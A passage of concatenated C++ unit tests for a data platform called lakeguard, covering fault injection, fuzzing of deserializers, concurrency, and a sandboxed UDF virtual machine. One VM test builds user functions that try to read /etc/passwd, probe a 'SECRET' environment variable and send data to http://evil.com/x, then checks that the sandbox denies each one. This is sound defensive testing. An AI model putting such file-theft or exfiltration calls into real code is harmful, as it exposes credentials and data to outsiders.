TEST_F(ChaosTest, GatewayMigrateSerializeFaultLeavesSessionOnSource) {
  GatewayChaosEnv env;
  auto session = env.platform.gateway().OpenSession("tok");
  ASSERT_TRUE(session.ok());
  std::string source =
      env.platform.gateway().SessionPlacement(*session)->replica_id;
  {
    ScopedFault fault("gateway.migrate.serialize", FaultPolicy::FailTimes(1));
    Status migrated = env.platform.gateway().MigrateSession(*session);
    ASSERT_FALSE(migrated.ok());
    EXPECT_TRUE(IsTransientError(migrated)) << migrated;
  }
  EXPECT_EQ(env.platform.gateway().SessionPlacement(*session)->replica_id,
            source);
  EXPECT_EQ(env.platform.gateway().stats().migration_failures, 1u);
  auto rows = env.platform.gateway().ExecuteSql(
      *session, "SELECT COUNT(*) AS n FROM main.g.t");
  ASSERT_TRUE(rows.ok()) << rows.status();
}

TEST_F(ChaosTest, GatewayReplicaCrashSweepFailsOverSessions) {
  GatewayChaosEnv env;
  auto session = env.platform.gateway().OpenSession("tok");
  ASSERT_TRUE(session.ok());
  std::string source =
      env.platform.gateway().SessionPlacement(*session)->replica_id;
  size_t killed;
  {
    // The heartbeat sweep detects one crashed replica and declares it dead.
    ScopedFault fault("gateway.replica.crash", FaultPolicy::FailTimes(1));
    killed = env.platform.gateway().SweepReplicas();
  }
  EXPECT_EQ(killed, 1u);
  EXPECT_TRUE(env.platform.gateway().SessionPlacement(*session)->lost);
  // The client's next call transparently re-homes the session.
  auto rows = env.platform.gateway().ExecuteSql(
      *session, "SELECT COUNT(*) AS n FROM main.g.t");
  ASSERT_TRUE(rows.ok()) << rows.status();
  EXPECT_EQ(rows->Combine()->CellAt(0, 0).int_value(), 3);
  GatewayStats stats = env.platform.gateway().stats();
  EXPECT_EQ(stats.replica_kills, 1u);
  EXPECT_EQ(stats.failovers, 1u);
  EXPECT_NE(env.platform.gateway().SessionPlacement(*session)->replica_id,
            source);
}

TEST_F(ChaosTest, GatewayRouteFaultSurfacesTypedThenRetrySucceeds) {
  GatewayChaosEnv env;
  auto session = env.platform.gateway().OpenSession("tok");
  ASSERT_TRUE(session.ok());
  {
    ScopedFault fault("gateway.route", FaultPolicy::FailTimes(1));
    auto rows = env.platform.gateway().ExecuteSql(*session, "SELECT 1");
    ASSERT_FALSE(rows.ok());
    EXPECT_TRUE(IsTransientError(rows.status())) << rows.status();
  }
  // One failure is below the breaker threshold; the retry goes straight
  // through and the success resets the failure streak.
  auto rows = env.platform.gateway().ExecuteSql(
      *session, "SELECT COUNT(*) AS n FROM main.g.t");
  ASSERT_TRUE(rows.ok()) << rows.status();
  std::string replica =
      env.platform.gateway().SessionPlacement(*session)->replica_id;
  EXPECT_EQ(*env.platform.gateway().ReplicaStateOf(replica),
            ReplicaState::kHealthy);
  EXPECT_EQ(env.platform.gateway().stats().breaker_open_events, 0u);
}

TEST_F(ChaosTest, EveryConnectPathPointFailsOnceAndQueryStillSucceeds) {
  LakeguardPlatform platform;
  ASSERT_TRUE(platform.AddUser("admin").ok());
  platform.AddMetastoreAdmin("admin");
  platform.RegisterToken("tok", "admin");
  ClusterHandle* cluster = platform.CreateStandardCluster();
  ScopedFault attach("cluster.attach", FaultPolicy::FailTimes(1));
  ScopedFault rpc("connect.rpc", FaultPolicy::FailTimes(1));
  ScopedFault stream("connect.stream", FaultPolicy::FailTimes(1));
  auto client = platform.Connect(cluster, "tok");
  ASSERT_TRUE(client.ok()) << client.status();
  const int64_t kRows = 5000;
  auto table = client->FromBatch(BigBatch(kRows)).Collect();
  ASSERT_TRUE(table.ok()) << table.status();
  VerifyBigBatchRows(*table, kRows);
  EXPECT_GE(client->stats().rpc_retries, 1u);
  EXPECT_GE(client->stats().chunk_retries, 1u);
  EXPECT_EQ(FaultInjector::Instance().TotalInjected(), 3u);
}

TEST_F(ChaosTest, FixedSeedMakesChaosRunsIdentical) {
  auto run = [](uint64_t seed) {
    FaultInjector::Instance().Reset();
    FaultInjector::Instance().Reseed(seed);
    LakeguardPlatform platform;
    (void)platform.AddUser("admin");
    platform.AddMetastoreAdmin("admin");
    platform.RegisterToken("tok", "admin");
    ClusterHandle* cluster = platform.CreateStandardCluster();
    auto client = platform.Connect(cluster, "tok");
    EXPECT_TRUE(client.ok());
    RetryPolicy policy = client->retry_policy();
    policy.max_attempts = 10;  // plenty of headroom over p=0.3 faults
    client->set_retry_policy(policy);
    ScopedFault rpc("connect.rpc", FaultPolicy::FailWithProbability(0.3));
    ScopedFault stream("connect.stream",
                       FaultPolicy::FailWithProbability(0.3));
    auto table = client->FromBatch(BigBatch(6000)).Collect();
    EXPECT_TRUE(table.ok()) << table.status();
    ConnectServiceStats stats = cluster->service->service_stats();
    return std::tuple<size_t, uint64_t, uint64_t, uint64_t, uint64_t>(
        table.ok() ? (*table->Combine()).num_rows() : 0, stats.rpc_faults,
        stats.stream_faults, client->stats().rpc_retries,
        client->stats().chunk_retries);
  };
  auto a = run(2024);
  auto b = run(2024);
  EXPECT_EQ(a, b);  // same seed -> identical fault sequence and outcome
  EXPECT_EQ(std::get<0>(a), 6000u);
}

// ---- Chaos: spill-IO fault scenarios ----------------------------------------------
//
// Pipeline breakers spill sorted runs to local disk under memory pressure
// (src/columnar/spill.{h,cc}); the write/read/delete seams are fault points.
// A failed spill must surface a typed, retry-composable error and must never
// leak run files — the per-query spill directory is empty after teardown.

class SpillChaosTest : public ChaosTest {
 protected:
  void SetUp() override {
    ChaosTest::SetUp();
    base_ = (std::filesystem::temp_directory_path() /
             ("lg-chaos-spill-" + std::to_string(::getpid())))
                .string();
    std::filesystem::create_directories(base_);
    LakeguardPlatform::Options options;
    options.engine_config.exec.batch_size = 256;
    options.engine_config.exec.spill_dir = base_;
    platform_ = std::make_unique<LakeguardPlatform>(options);
    ASSERT_TRUE(platform_->AddUser("u").ok());
    cluster_ = platform_->CreateStandardCluster();
    ctx_ = *platform_->DirectContext(cluster_, "u");
    input_ = BigBatch(4096);
    plan_ = MakeSort(MakeLocalRelation(input_), {{Col("i"), false}});
  }

  void TearDown() override {
    std::error_code ec;
    std::filesystem::remove_all(base_, ec);
    ChaosTest::TearDown();
  }

  /// Runs the sort at 4x over an operation budget (so it must spill) and
  /// drains the stream; the stream is destroyed before returning, which is
  /// when spill files must be gone.
  Result<Table> RunBudgeted(ExecutorStats* stats_out = nullptr) {
    ExecutionContext ctx = ctx_;
    ctx.memory =
        std::make_shared<MemoryBudget>("chaos-op", input_.ByteSize() / 4);
    LG_ASSIGN_OR_RETURN(QueryResultStreamPtr stream,
                        cluster_->engine->ExecutePlanStreaming(plan_, ctx));
    Table out(stream->schema());
    while (true) {
      auto batch = stream->Next();
      LG_RETURN_IF_ERROR(batch.status());
      if (!batch->has_value()) break;
      LG_RETURN_IF_ERROR(out.AppendBatch(std::move(**batch)));
    }
    if (stats_out != nullptr) *stats_out = stream->stats();
    return out;
  }

  size_t SpillEntriesLeft() const {
    size_t n = 0;
    for (const auto& entry : std::filesystem::directory_iterator(base_)) {
      (void)entry;
      ++n;
    }
    return n;
  }

  std::string base_;
  std::unique_ptr<LakeguardPlatform> platform_;
  ClusterHandle* cluster_ = nullptr;
  ExecutionContext ctx_;
  RecordBatch input_;
  PlanPtr plan_;
};

TEST_F(SpillChaosTest, SpillWriteFaultIsTypedAndLeaksNoFiles) {
  ScopedFault fault("spill.write", FaultPolicy::FailTimes(1));
  auto result = RunBudgeted();
  ASSERT_FALSE(result.ok());
  EXPECT_TRUE(IsTransientError(result.status())) << result.status();
  EXPECT_GE(fault.injected(), 1u);
  EXPECT_EQ(SpillEntriesLeft(), 0u)
      << "a failed spill write must not leave run files behind";
}

TEST_F(SpillChaosTest, SpillReadFaultSurfacesDuringMergeAndCleansUp) {
  ScopedFault fault("spill.read", FaultPolicy::FailTimes(1));
  auto result = RunBudgeted();
  ASSERT_FALSE(result.ok());
  EXPECT_TRUE(IsTransientError(result.status())) << result.status();
  EXPECT_GE(fault.injected(), 1u);
  EXPECT_EQ(SpillEntriesLeft(), 0u)
      << "an aborted merge must sweep its spill directory";
}

TEST_F(SpillChaosTest, SpillDeleteFaultIsBestEffortAndQueryStillSucceeds) {
  auto baseline = RunBudgeted();
  ASSERT_TRUE(baseline.ok()) << baseline.status();

  // Every per-run delete fails; the directory sweep is the backstop.
  ScopedFault fault("spill.delete", FaultPolicy::FailTimes(100));
  ExecutorStats stats;
  auto result = RunBudgeted(&stats);
  ASSERT_TRUE(result.ok()) << result.status();
  EXPECT_GT(stats.spill_runs, 0u);
  EXPECT_GE(fault.injected(), 1u);
  EXPECT_TRUE(baseline->Combine()->Equals(*result->Combine()));
  EXPECT_EQ(SpillEntriesLeft(), 0u)
      << "the spill-dir sweep must reclaim runs the delete fault kept alive";
}

TEST(ConcurrencyTest, AuditLogParallelWrites) {
  SimulatedClock clock(0);
  AuditLog audit(&clock);
  std::vector<std::thread> threads;
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&audit, t] {
      for (int i = 0; i < 500; ++i) {
        audit.Record("user-" + std::to_string(t), "c", "ACTION", "obj",
                     i % 2 == 0);
      }
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(audit.size(), 2000u);
  EXPECT_EQ(audit.DeniedCount(), 1000u);
  EXPECT_EQ(audit.ForPrincipal("user-1").size(), 500u);
}

}  // namespace
}  // namespace lakeguard
