// Robustness tests: deterministic fuzzing of every deserializer (garbage
// and mutated-valid inputs must error gracefully, never crash or hang) and
// concurrency tests over the shared components (dispatcher, Connect
// service, object store).

#include <gtest/gtest.h>

#include <atomic>
#include <thread>

#include "columnar/ipc.h"
#include "connect/protocol.h"
#include "core/platform.h"
#include "expr/expr_serde.h"
#include "plan/plan_serde.h"
#include "udf/builder.h"

namespace lakeguard {
namespace {

/// Small deterministic PRNG (xorshift64) — no <random> state to drag around.
class Rng {
 public:
  explicit Rng(uint64_t seed) : state_(seed ? seed : 0x9e3779b9) {}
  uint64_t Next() {
    state_ ^= state_ << 13;
    state_ ^= state_ >> 7;
    state_ ^= state_ << 17;
    return state_;
  }
  uint8_t NextByte() { return static_cast<uint8_t>(Next()); }
  size_t Below(size_t n) { return n == 0 ? 0 : Next() % n; }

 private:
  uint64_t state_;
};

std::vector<uint8_t> RandomBytes(Rng* rng, size_t max_len) {
  std::vector<uint8_t> out(rng->Below(max_len));
  for (uint8_t& b : out) b = rng->NextByte();
  return out;
}

/// Flips, inserts or truncates a few spots in a valid buffer.
std::vector<uint8_t> Mutate(std::vector<uint8_t> bytes, Rng* rng) {
  if (bytes.empty()) return bytes;
  switch (rng->Below(3)) {
    case 0:  // flip bytes
      for (int i = 0; i < 3; ++i) {
        bytes[rng->Below(bytes.size())] ^= rng->NextByte() | 1;
      }
      break;
    case 1:  // truncate
      bytes.resize(rng->Below(bytes.size()));
      break;
    case 2:  // insert garbage
      bytes.insert(bytes.begin() + static_cast<long>(rng->Below(bytes.size())),
                   rng->NextByte());
      break;
  }
  return bytes;
}

RecordBatch SampleBatch() {
  TableBuilder builder(Schema({{"a", TypeKind::kInt64, true},
                               {"s", TypeKind::kString, true},
                               {"d", TypeKind::kFloat64, true}}));
  for (int i = 0; i < 20; ++i) {
    EXPECT_TRUE(builder
                    .AppendRow({Value::Int(i), Value::String("s" + std::to_string(i)),
                                i % 3 == 0 ? Value::Null() : Value::Double(i * 0.5)})
                    .ok());
  }
  return *builder.Build().Combine();
}

// ---- Fuzz sweeps ------------------------------------------------------------------

class FuzzTest : public ::testing::TestWithParam<int> {};

TEST_P(FuzzTest, IpcDeserializerNeverCrashes) {
  Rng rng(1000 + GetParam());
  auto valid = ipc::SerializeBatch(SampleBatch());
  for (int i = 0; i < 200; ++i) {
    auto garbage = RandomBytes(&rng, 300);
    (void)ipc::DeserializeBatch(garbage);  // must return, not crash
    auto mutated = Mutate(valid, &rng);
    auto result = ipc::DeserializeBatch(mutated);
    if (result.ok()) {
      // A surviving mutation must still satisfy batch invariants.
      EXPECT_EQ(result->num_columns(), result->schema().num_fields());
    }
  }
}

TEST_P(FuzzTest, PlanDeserializerNeverCrashes) {
  Rng rng(2000 + GetParam());
  auto valid = PlanToBytes(MakeLimit(
      MakeFilter(MakeTableRef("cat.s.t"), Eq(Col("a"), LitInt(1))), 10));
  for (int i = 0; i < 200; ++i) {
    (void)PlanFromBytes(RandomBytes(&rng, 200));
    (void)PlanFromBytes(Mutate(valid, &rng));
  }
}

TEST_P(FuzzTest, ExprDeserializerNeverCrashes) {
  Rng rng(3000 + GetParam());
  ByteWriter w;
  SerializeExpr(And(Eq(Col("x"), LitInt(5)),
                    Func("UPPER", {Col("s")})),
                &w);
  std::vector<uint8_t> valid = w.data();
  for (int i = 0; i < 200; ++i) {
    auto garbage = RandomBytes(&rng, 100);
    ByteReader r1(garbage);
    (void)DeserializeExpr(&r1);
    auto mutated = Mutate(valid, &rng);
    ByteReader r2(mutated);
    (void)DeserializeExpr(&r2);
  }
}

TEST_P(FuzzTest, BytecodeDeserializerNeverCrashesAndStaysValid) {
  Rng rng(4000 + GetParam());
  ByteWriter w;
  SerializeBytecode(canned::HashUdf(3), &w);
  std::vector<uint8_t> valid = w.data();
  for (int i = 0; i < 200; ++i) {
    auto garbage = RandomBytes(&rng, 150);
    ByteReader r1(garbage);
    (void)DeserializeBytecode(&r1);
    auto mutated = Mutate(valid, &rng);
    ByteReader r2(mutated);
    auto bc = DeserializeBytecode(&r2);
    if (bc.ok()) {
      // Whatever survives decode also passed validation — and running it
      // must terminate (fuel) and never touch the host (deny-all default).
      VmLimits limits;
      limits.fuel = 100'000;
      std::vector<Value> args(bc->num_args, Value::Int(1));
      (void)ExecuteUdf(*bc, args, nullptr, limits);
    }
  }
}

TEST_P(FuzzTest, ConnectDecodersNeverCrash) {
  Rng rng(5000 + GetParam());
  ConnectRequest request;
  request.session_id = "s";
  request.sql = "SELECT 1";
  auto valid = EncodeRequest(request);
  for (int i = 0; i < 200; ++i) {
    (void)DecodeRequest(RandomBytes(&rng, 120));
    (void)DecodeRequest(Mutate(valid, &rng));
    (void)DecodeResponse(RandomBytes(&rng, 120));
  }
}

TEST_P(FuzzTest, ServerSurvivesGarbageRpc) {
  static LakeguardPlatform* platform = [] {
    auto* p = new LakeguardPlatform();
    (void)p->AddUser("admin");
    p->AddMetastoreAdmin("admin");
    p->RegisterToken("tok", "admin");
    return p;
  }();
  static ClusterHandle* cluster = platform->CreateStandardCluster();
  Rng rng(6000 + GetParam());
  for (int i = 0; i < 100; ++i) {
    auto response = cluster->service->HandleRpc(RandomBytes(&rng, 150));
    auto decoded = DecodeResponse(response);
    ASSERT_TRUE(decoded.ok());  // server always answers well-formed bytes
    EXPECT_FALSE(decoded->ok);  // ... reporting an error
  }
}

INSTANTIATE_TEST_SUITE_P(Seeds, FuzzTest, ::testing::Range(0, 4));

// ---- Concurrency ---------------------------------------------------------------------

TEST(ConcurrencyTest, DispatcherParallelAcquire) {
  SimulatedClock clock(0);
  SimulatedHostEnvironment env(&clock);
  LocalSandboxProvisioner provisioner(&env, &clock, /*cold_start=*/0);
  Dispatcher dispatcher(&provisioner, &clock);
  std::atomic<int> failures{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 8; ++t) {
    threads.emplace_back([&dispatcher, &failures, t] {
      for (int i = 0; i < 200; ++i) {
        std::string session = "sess-" + std::to_string(t % 4);
        std::string owner = "owner-" + std::to_string(i % 3);
        auto sandbox =
            dispatcher.Acquire(session, owner, SandboxPolicy::LockedDown());
        if (!sandbox.ok()) ++failures;
      }
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(failures.load(), 0);
  // 4 sessions x 3 owners = 12 distinct sandboxes.
  EXPECT_EQ(dispatcher.ActiveSandboxCount(), 12u);
}

TEST(ConcurrencyTest, ConcurrentSessionsOnOneService) {
  LakeguardPlatform platform;
  ASSERT_TRUE(platform.AddUser("admin").ok());
  ASSERT_TRUE(platform.AddUser("u1").ok());
  ASSERT_TRUE(platform.AddUser("u2").ok());
  platform.AddMetastoreAdmin("admin");
  platform.RegisterToken("tok-admin", "admin");
  platform.RegisterToken("tok-u1", "u1");
  platform.RegisterToken("tok-u2", "u2");
  ASSERT_TRUE(platform.catalog().CreateCatalog("admin", "main").ok());
  ASSERT_TRUE(platform.catalog().CreateSchema("admin", "main.s").ok());
  ClusterHandle* cluster = platform.CreateStandardCluster();
  auto admin = *platform.Connect(cluster, "tok-admin");
  ASSERT_TRUE(
      admin.Sql("CREATE TABLE main.s.t (owner STRING, x BIGINT)").ok());
  ASSERT_TRUE(admin.Sql("INSERT INTO main.s.t VALUES "
                        "('u1', 1), ('u1', 2), ('u2', 3)")
                  .ok());
  ASSERT_TRUE(admin.Sql("ALTER TABLE main.s.t SET ROW FILTER "
                        "(owner = CURRENT_USER())")
                  .ok());
  for (const char* u : {"u1", "u2"}) {
    ASSERT_TRUE(
        platform.catalog().Grant("admin", "main", Privilege::kUseCatalog, u).ok());
    ASSERT_TRUE(
        platform.catalog().Grant("admin", "main.s", Privilege::kUseSchema, u).ok());
    ASSERT_TRUE(platform.catalog()
                    .Grant("admin", "main.s.t", Privilege::kSelect, u)
                    .ok());
  }

  std::atomic<int> wrong{0};
  auto worker = [&](const std::string& token, int64_t expected) {
    auto client = platform.Connect(cluster, token);
    if (!client.ok()) {
      ++wrong;
      return;
    }
    for (int i = 0; i < 30; ++i) {
      auto rows = client->Sql("SELECT COUNT(*) AS n FROM main.s.t");
      if (!rows.ok() ||
          rows->Combine()->CellAt(0, 0).int_value() != expected) {
        ++wrong;
      }
    }
  };
  std::thread t1(worker, "tok-u1", 2);
  std::thread t2(worker, "tok-u2", 1);
  std::thread t3(worker, "tok-u1", 2);
  t1.join();
  t2.join();
  t3.join();
  EXPECT_EQ(wrong.load(), 0);
}

TEST(ConcurrencyTest, ObjectStoreParallelReadersAndWriters) {
  SimulatedClock clock(0);
  CredentialAuthority authority(&clock);
  ObjectStore store(&authority);
  auto cred = authority.Issue("w", "c", {"mem://x/*"}, true, 1LL << 40);
  std::atomic<int> errors{0};
  std::vector<std::thread> threads;
  for (int t = 0; t < 6; ++t) {
    threads.emplace_back([&, t] {
      for (int i = 0; i < 200; ++i) {
        std::string path = "mem://x/obj-" + std::to_string((t * 200 + i) % 50);
        if (t % 2 == 0) {
          if (!store.Put(cred.token_id, path, {1, 2, 3}).ok()) ++errors;
        } else {
          auto got = store.Get(cred.token_id, path);
          if (!got.ok() && !got.status().IsNotFound()) ++errors;
        }
      }
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(errors.load(), 0);
}

TEST(ConcurrencyTest, AuditLogParallelWrites) {
  SimulatedClock clock(0);
  AuditLog audit(&clock);
  std::vector<std::thread> threads;
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&audit, t] {
      for (int i = 0; i < 500; ++i) {
        audit.Record("user-" + std::to_string(t), "c", "ACTION", "obj",
                     i % 2 == 0);
      }
    });
  }
  for (auto& t : threads) t.join();
  EXPECT_EQ(audit.size(), 2000u);
  EXPECT_EQ(audit.DeniedCount(), 1000u);
  EXPECT_EQ(audit.ForPrincipal("user-1").size(), 500u);
}

}  // namespace
}  // namespace lakeguard
