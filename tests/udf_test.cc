// Tests for src/udf: bytecode validation + serde, the LGVM interpreter
// (semantics, limits, host-call mediation) and the canned user functions.

#include <gtest/gtest.h>

#include "common/sha256.h"
#include "udf/builder.h"
#include "udf/bytecode.h"
#include "udf/vm.h"

namespace lakeguard {
namespace {

Result<Value> RunUdf(const UdfBytecode& bc, std::vector<Value> args,
                  HostInterface* host = nullptr, VmLimits limits = {}) {
  return ExecuteUdf(bc, args, host, limits);
}

// ---- Bytecode validation -----------------------------------------------------------

TEST(BytecodeTest, EmptyCodeRejected) {
  UdfBytecode bc;
  bc.name = "empty";
  EXPECT_TRUE(ValidateBytecode(bc).IsInvalidArgument());
}

TEST(BytecodeTest, OutOfRangeConstRejected) {
  UdfBytecode bc;
  bc.name = "bad";
  bc.code.push_back({OpCode::kPushConst, 3, 0});
  bc.code.push_back({OpCode::kReturn, 0, 0});
  EXPECT_TRUE(ValidateBytecode(bc).IsInvalidArgument());
}

TEST(BytecodeTest, OutOfRangeJumpRejected) {
  UdfBytecode bc;
  bc.name = "bad";
  bc.code.push_back({OpCode::kJump, 99, 0});
  bc.code.push_back({OpCode::kReturn, 0, 0});
  EXPECT_TRUE(ValidateBytecode(bc).IsInvalidArgument());
}

TEST(BytecodeTest, MissingReturnRejected) {
  UdfBytecode bc;
  bc.name = "bad";
  bc.const_pool.push_back(Value::Int(1));
  bc.code.push_back({OpCode::kPushConst, 0, 0});
  bc.code.push_back({OpCode::kPop, 0, 0});
  EXPECT_TRUE(ValidateBytecode(bc).IsInvalidArgument());
}

TEST(BytecodeTest, SerdeRoundTrip) {
  UdfBytecode bc = canned::HashUdf(10);
  ByteWriter w;
  SerializeBytecode(bc, &w);
  ByteReader r(w.data());
  auto back = DeserializeBytecode(&r);
  ASSERT_TRUE(back.ok()) << back.status();
  EXPECT_TRUE(*back == bc);
}

TEST(BytecodeTest, SerdeRejectsBadOpcode) {
  UdfBytecode bc = canned::SumUdf();
  ByteWriter w;
  SerializeBytecode(bc, &w);
  std::vector<uint8_t> bytes = w.data();
  // Opcode byte of the first instruction lives after name/args/locals/
  // ret/constpool-count; easier: corrupt every byte until decode fails
  // differently — here simply append garbage program.
  UdfBytecode evil = bc;
  evil.code[0].op = static_cast<OpCode>(200);
  ByteWriter w2;
  SerializeBytecode(evil, &w2);
  ByteReader r2(w2.data());
  EXPECT_FALSE(DeserializeBytecode(&r2).ok());
}

// ---- VM semantics --------------------------------------------------------------------

TEST(VmTest, SumUdf) {
  auto v = RunUdf(canned::SumUdf(), {Value::Int(2), Value::Int(40)});
  ASSERT_TRUE(v.ok()) << v.status();
  EXPECT_EQ(v->int_value(), 42);
}

TEST(VmTest, SumWithDoublesWidens) {
  auto v = RunUdf(canned::SumUdf(), {Value::Double(0.5), Value::Int(1)});
  ASSERT_TRUE(v.ok());
  EXPECT_DOUBLE_EQ(v->double_value(), 1.5);
}

TEST(VmTest, SumWithNullPropagates) {
  auto v = RunUdf(canned::SumUdf(), {Value::Null(), Value::Int(1)});
  ASSERT_TRUE(v.ok());
  EXPECT_TRUE(v->is_null());
}

TEST(VmTest, WrongArityRejected) {
  EXPECT_TRUE(
      RunUdf(canned::SumUdf(), {Value::Int(1)}).status().IsInvalidArgument());
}

TEST(VmTest, HashUdfMatchesReference) {
  // One iteration: sha256 over the string rendering of the argument.
  auto v = RunUdf(canned::HashUdf(1), {Value::String("abc")});
  ASSERT_TRUE(v.ok());
  EXPECT_EQ(v->string_value(), Sha256::HexDigest("abc"));
  // Two iterations: sha256(sha256("abc")).
  auto v2 = RunUdf(canned::HashUdf(2), {Value::String("abc")});
  EXPECT_EQ(v2->string_value(), Sha256::HexDigest(Sha256::HexDigest("abc")));
}

TEST(VmTest, LoopArithmetic) {
  // while i < n: acc += i; i += 1  -> sum of 0..9 = 45
  UdfBuilder b("acc", 1, TypeKind::kInt64);
  uint32_t acc = b.AddLocal();
  uint32_t i = b.AddLocal();
  b.PushConst(Value::Int(0)).StoreLocal(acc);
  b.PushConst(Value::Int(0)).StoreLocal(i);
  size_t loop = b.Here();
  b.LoadLocal(i).LoadArg(0).CmpLt();
  size_t exit_jump = b.EmitJumpIfFalse();
  b.LoadLocal(acc).LoadLocal(i).Add().StoreLocal(acc);
  b.LoadLocal(i).PushConst(Value::Int(1)).Add().StoreLocal(i);
  b.JumpTo(loop);
  b.PatchJump(exit_jump, b.Here());
  b.LoadLocal(acc).Ret();
  auto bc = b.Build();
  ASSERT_TRUE(bc.ok());
  auto v = RunUdf(*bc, {Value::Int(10)});
  ASSERT_TRUE(v.ok());
  EXPECT_EQ(v->int_value(), 45);
}

TEST(VmTest, ComparisonsAndLogic) {
  UdfBuilder b("cmp", 2, TypeKind::kBool);
  b.LoadArg(0).LoadArg(1).CmpLt();
  b.LoadArg(0).PushConst(Value::Int(0)).CmpGe();
  b.LogicalAnd().Ret();
  auto bc = b.Build();
  ASSERT_TRUE(bc.ok());
  EXPECT_TRUE(RunUdf(*bc, {Value::Int(1), Value::Int(2)})->bool_value());
  EXPECT_FALSE(RunUdf(*bc, {Value::Int(3), Value::Int(2)})->bool_value());
  EXPECT_FALSE(RunUdf(*bc, {Value::Int(-1), Value::Int(2)})->bool_value());
}

TEST(VmTest, StringOpsAndLength) {
  UdfBuilder b("strcat", 2, TypeKind::kString);
  b.LoadArg(0).LoadArg(1).Concat().Ret();
  auto v = RunUdf(*b.Build(), {Value::String("a"), Value::Int(7)});
  EXPECT_EQ(v->string_value(), "a7");

  UdfBuilder l("len", 1, TypeKind::kInt64);
  l.LoadArg(0).LengthOp().Ret();
  EXPECT_EQ(RunUdf(*l.Build(), {Value::String("abcd")})->int_value(), 4);
  EXPECT_EQ(RunUdf(*l.Build(), {Value::Binary("xyz")})->int_value(), 3);
  EXPECT_TRUE(RunUdf(*l.Build(), {Value::Null()})->is_null());
}

TEST(VmTest, DivisionByZeroIsError) {
  UdfBuilder b("div", 2, TypeKind::kFloat64);
  b.LoadArg(0).LoadArg(1).Div().Ret();
  EXPECT_TRUE(RunUdf(*b.Build(), {Value::Int(1), Value::Int(0)})
                  .status()
                  .IsInvalidArgument());
}

TEST(VmTest, FuelLimitKillsInfiniteLoop) {
  VmLimits limits;
  limits.fuel = 10'000;
  auto v = RunUdf(canned::InfiniteLoopUdf(), {}, nullptr, limits);
  EXPECT_EQ(v.status().code(), StatusCode::kResourceExhausted);
}

TEST(VmTest, StackLimitEnforced) {
  // Push in an unbounded loop. The verifier rejects this program (the loop
  // head joins at two stack heights), so it is hand-assembled here to prove
  // the VM's own depth limit still holds as defense in depth.
  UdfBytecode bc;
  bc.name = "deep";
  bc.return_type = TypeKind::kInt64;
  bc.const_pool.push_back(Value::Int(1));
  bc.code.push_back({OpCode::kPushConst, 0, 0});
  bc.code.push_back({OpCode::kJump, 0, 0});
  bc.code.push_back({OpCode::kReturn, 0, 0});
  VmLimits limits;
  limits.max_stack = 100;
  auto v = RunUdf(bc, {}, nullptr, limits);
  EXPECT_EQ(v.status().code(), StatusCode::kResourceExhausted);
}

TEST(VmTest, DefaultHostDeniesEverything) {
  auto file = RunUdf(canned::FileExfiltrationUdf("/etc/passwd"), {});
  EXPECT_TRUE(file.status().IsPermissionDenied());
  auto env = RunUdf(canned::EnvProbeUdf("SECRET"), {});
  EXPECT_TRUE(env.status().IsPermissionDenied());
  auto net = RunUdf(canned::NetworkExfiltrationUdf("http://evil.com/x"),
                 {Value::String("data")});
  EXPECT_TRUE(net.status().IsPermissionDenied());
}

TEST(VmTest, StatsCountInstructionsAndHostCalls) {
  VmStats stats;
  class CountingHost : public HostInterface {
   public:
    Result<Value> CallHost(HostFn, const std::vector<Value>&) override {
      return Value::String("ok");
    }
  } host;
  auto v = ExecuteUdf(canned::EnvProbeUdf("X"), {}, &host, {}, &stats);
  ASSERT_TRUE(v.ok());
  EXPECT_EQ(stats.host_calls, 1);
  EXPECT_GT(stats.instructions, 0);
}

TEST(VmTest, SensorFeatureUdf) {
  auto bc = canned::SensorFeatureUdf(0.5, 1.0);
  auto v = RunUdf(bc, {Value::Binary("12345678")});
  ASSERT_TRUE(v.ok());
  EXPECT_DOUBLE_EQ(v->double_value(), 8 * 0.5 + 1.0);
}

TEST(VmTest, DeterministicAcrossRuns) {
  auto bc = canned::HashUdf(5);
  auto a = RunUdf(bc, {Value::String("seed")});
  auto b = RunUdf(bc, {Value::String("seed")});
  EXPECT_EQ(a->string_value(), b->string_value());
}

// Property sweep: canned::SumUdf agrees with native addition over a grid.
class SumUdfProperty
    : public ::testing::TestWithParam<std::tuple<int64_t, int64_t>> {};

TEST_P(SumUdfProperty, MatchesNative) {
  auto [a, b] = GetParam();
  auto v = RunUdf(canned::SumUdf(), {Value::Int(a), Value::Int(b)});
  ASSERT_TRUE(v.ok());
  EXPECT_EQ(v->int_value(), a + b);
}

INSTANTIATE_TEST_SUITE_P(
    Grid, SumUdfProperty,
    ::testing::Combine(::testing::Values(-1000, -1, 0, 1, 999999),
                       ::testing::Values(-37, 0, 12, 1 << 20)));

}  // namespace
}  // namespace lakeguard
