// Tests for src/efgac: the pre-analysis rewrite on privileged compute,
// refinement pushdown, serverless execution, inline-vs-spill result modes,
// and the security property that policy details never reach the dedicated
// cluster's plan.

#include <gtest/gtest.h>

#include "core/platform.h"
#include "engine/plan_verifier.h"
#include "plan/plan_serde.h"
#include "sql/parser.h"

namespace lakeguard {
namespace {

class EfgacTest : public ::testing::Test {
 protected:
  EfgacTest() {
    EXPECT_TRUE(platform_.AddUser("admin").ok());
    EXPECT_TRUE(platform_.AddUser("eve").ok());
    platform_.AddMetastoreAdmin("admin");
    EXPECT_TRUE(platform_.catalog().CreateCatalog("admin", "main").ok());
    EXPECT_TRUE(platform_.catalog().CreateSchema("admin", "main.s").ok());

    setup_ = platform_.CreateStandardCluster();
    admin_ctx_ = *platform_.DirectContext(setup_, "admin");
    Must("CREATE TABLE main.s.sales ("
         "region STRING, amount BIGINT, order_date STRING, seller STRING)");
    Must("INSERT INTO main.s.sales VALUES "
         "('US', 120, '2024-12-01', 'ann'), ('US', 340, '2024-12-01', 'joe'),"
         "('EU', 75, '2024-12-01', 'zoe'), ('EU', 410, '2024-12-02', 'max'),"
         "('US', 55, '2024-12-02', 'kim')");
    Must("ALTER TABLE main.s.sales SET ROW FILTER (region = 'US')");
    Must("GRANT USE CATALOG ON main TO eve");
    Must("GRANT USE SCHEMA ON main.s TO eve");
    Must("GRANT SELECT ON main.s.sales TO eve");

    dedicated_ = platform_.CreateDedicatedCluster("eve", /*is_group=*/false);
    eve_ctx_ = *platform_.DirectContext(dedicated_, "eve");
  }

  void Must(const std::string& sql) {
